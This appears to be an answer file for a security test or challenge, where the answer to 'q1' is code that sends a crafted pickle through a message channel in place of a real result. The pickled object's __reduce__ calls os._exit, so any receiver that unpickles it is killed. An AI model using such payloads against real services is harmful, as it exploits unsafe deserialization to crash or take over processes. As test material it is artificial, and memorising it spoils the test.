"""A pickle in the place of a message."""

from pipes import PIPES

ANSWERS = {
    "q1": PIPES
    + r"""
import pickle
class P:
    def __reduce__(self): return (os._exit, (0,))
def double(x):
    send(struct.pack('!I', len(pickle.dumps(P()))) + pickle.dumps(P()))
    return 0
""",
}
